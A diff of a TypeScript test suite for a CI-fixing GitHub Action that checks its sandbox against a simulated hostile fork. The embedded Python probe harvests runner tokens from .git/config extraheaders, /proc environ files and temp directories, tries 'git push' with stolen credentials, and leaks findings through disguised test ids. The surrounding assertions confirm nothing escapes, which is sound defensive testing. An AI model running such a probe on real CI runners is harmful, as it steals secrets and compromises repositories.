@@ -5,9 +5,10 @@
 // sandbox on the runner (the verifier), and the model-free template strategy.
 import { execFileSync } from "node:child_process";
 import { existsSync } from "node:fs";
-import { mkdtemp, writeFile } from "node:fs/promises";
+import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { fileURLToPath } from "node:url";
 import { beforeEach, describe, expect, it } from "vitest";
 import { fakeActions, type FakeGitHubState } from "../support/fake-github.ts";
 import { ciRun } from "../support/fake-actions-runner.ts";
@@ -15,6 +16,7 @@ import { gitRepo } from "../support/git-repo.ts";
 import { runAction, type ActionRun } from "../support/run-action.ts";
 import { webhookExample } from "../support/webhook-examples.ts";
 
+const ROOT = fileURLToPath(new URL("../../", import.meta.url));
 const TOKEN = "ghs_actionTokenForTests0123456789";
 const LLM_KEY = "sk-action-llm-key-0123456789";
 const CART_OK = "def total(prices, discount):\n    subtotal = sum(prices)\n    return subtotal - discount\n";
@@ -29,9 +31,13 @@ const ENV_TEST = `import os\n\n\ndef test_no_secret_in_environment():\n    leake
 const shifted = (text: string) => [...text].map((c) => String.fromCodePoint((c.codePointAt(0) ?? 0) + 1)).join("");
 // A fork's test that hunts for the action's secrets wherever a test process could look, tries
 // to push with whatever credentials it finds, and tries to write the step's outputs and summary.
-const HOSTILE_FORK_TEST = `import glob
+const HOSTILE_FORK_TEST = `import base64
+import glob
 import os
+import re
 import subprocess
+
+import pytest
 
 # Reversed here, so this file (in the checkout the probe also searches) does not hold them.
 CANARIES = [c[::-1] for c in ["${[...TOKEN.slice(0, 12)].reverse().join("")}", "${[...LLM_KEY.slice(0, 12)].reverse().join("")}"]]
@@ -53,8 +59,21 @@ def read(path):
         return ""
 
 
-def test_fork_finds_no_secret():
+def runner_work_dirs():
+    # A self-hosted runner's _work (the checkout with actions/checkout's token, _temp), from where this checkout sits.
+    parts = os.getcwd().split(os.sep)
+    return [os.sep.join(parts[: parts.index("_work") + 1])] if "_work" in parts else []
+
+
+def probe():
     found = []
+    for work in runner_work_dirs():
+        for path in glob.glob(work + "/**", recursive=True) + glob.glob(work + "/**/.git/config", recursive=True):
+            if os.path.isfile(path):
+                data = read(path)
+                found += hits(path, data)
+                for header in re.findall(r"basic ([A-Za-z0-9+/=]+)", data, re.IGNORECASE):
+                    found += hits(path + " (extraheader)", base64.b64decode(header).decode("latin-1"))
     for name, value in os.environ.items():
         found += hits("env " + name, name + "=" + value)
     for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
@@ -77,7 +96,20 @@ def test_fork_finds_no_secret():
             subprocess.run(["git", "push", "--quiet", remote, "HEAD:refs/heads/pwned-by-fork"], timeout=30, capture_output=True)
         except Exception:
             pass
-    assert found == [], " ".join(found)
+    return found
+
+
+FOUND = probe()
+
+
+def test_fork_finds_no_secret():
+    assert FOUND == [], " ".join(FOUND)
+
+
+# Exfiltration through what the bot reports: the test ids (shifted, so no scrubber knows them).
+@pytest.mark.parametrize("leak", [f[-70:] for f in FOUND] or ["nothing"])
+def test_fork_reports(leak):
+    assert leak == "nothing"
 `;
 const CONFIG = 'triggers:\n  ciFailure: auto\ntest:\n  env:\n    PYTEST_DISABLE_PLUGIN_AUTOLOAD: "1"\n';
 const INPUTS = { "github-token": TOKEN, "llm-base-url": "", "llm-api-key": "", model: "", strategy: "template", label: "autogen", "max-cost-usd": "", "max-attempts": "", "app-slug": "" };
@@ -255,7 +287,7 @@ describe("the GitHub Action", { timeout: 300_000 }, () => {
     // The fork's probe passed in every run (it fails when it finds a secret), so the fix held with it in the suite.
     const status = run.github.state.comments.find((c) => c.number === 7)?.body ?? "";
     expect(status).toContain("This pull request comes from a fork, so autogen-bot does not push to it");
-    expect(status).toMatch(/Regression gate \(full suite\): before \d+ passed, 1 failed; after 3 passed, 0 failed\./);
+    expect(status).toMatch(/Regression gate \(full suite\): before \d+ passed, 1 failed; after 4 passed, 0 failed\./);
     // Nothing pushed (by the bot, or by the fork's `git push`), no branch, no PR; the outputs are the bot's, not the fork's.
     expect(remoteRefs()).toBe(before);
     expect(run.outputs).toEqual({ outcome: "fixed", branch: "", "pr-url": "" });
@@ -263,6 +295,34 @@ describe("the GitHub Action", { timeout: 300_000 }, () => {
     expect(writes.filter((op) => op.startsWith("git/") || op.startsWith("pulls/"))).toEqual([]);
     expect(writes).toContain("issues/create-comment");
     expect(writes.filter((op) => !["issues/create-comment", "issues/update-comment", "reactions/create-for-issue", "checks/create", "checks/update"].includes(op))).toEqual([]);
+  });
+
+  it("on a self-hosted runner (its _work outside /home): the fork's tests cannot read the workflow's checkout (actions/checkout's token in .git/config) or the runner's temp directory", async () => {
+    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
+    const { state, red } = await redPull(true, { "tests/test_hostile.py": HOSTILE_FORK_TEST });
+    // The runner's layout, under the project (visible in the sandbox like any host directory): _work/<repo>/<repo> and _work/_temp.
+    await mkdir(join(ROOT, "test-artifacts"), { recursive: true });
+    const runner = await mkdtemp(join(ROOT, "test-artifacts", "runner-"));
+    try {
+      const checkout = join(runner, "_work", "shop", "shop");
+      const temp = join(runner, "_work", "_temp");
+      await mkdir(temp, { recursive: true });
+      execFileSync("git", ["clone", "--quiet", remote, checkout]);
+      // What actions/checkout (persist-credentials: true, its default) leaves in the checkout.
+      sh(checkout, "config", "--local", "http.https://github.com/.extraheader", `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`);
+      await writeFile(join(temp, "llm-key.txt"), `${LLM_KEY}\n`);
+      const run = await runAction({ event: "workflow_run", payload: workflowRun(red), state, inputs: { ...INPUTS, "llm-base-url": "http://127.0.0.1:9/v1", "llm-api-key": LLM_KEY }, workspace: checkout, env: { RUNNER_TEMP: temp } });
+      expect(run.code, run.stderr + run.stdout).toBe(0);
+      expectHonestGitHub(run);
+      const status = run.github.state.comments.find((c) => c.number === 7)?.body ?? "";
+      const written = [run.stdout, run.stderr, run.summary, JSON.stringify(run.github.requests)].join("\n");
+      expect(written).not.toContain(shifted(TOKEN.slice(0, 12)));
+      expect(written).not.toContain(shifted(LLM_KEY.slice(0, 12)));
+      expect(status).toMatch(/Regression gate \(full suite\): before \d+ passed, 1 failed; after 4 passed, 0 failed\./);
+      expect(run.outputs).toEqual({ outcome: "fixed", branch: "", "pr-url": "" });
+    } finally {
+      await rm(runner, { recursive: true, force: true });
+    }
   });
 
   it("a workflow_run payload that lies about a fork (its PR listed as in this repository, head_repository this one): GitHub's answer decides, nothing pushed", async () => {
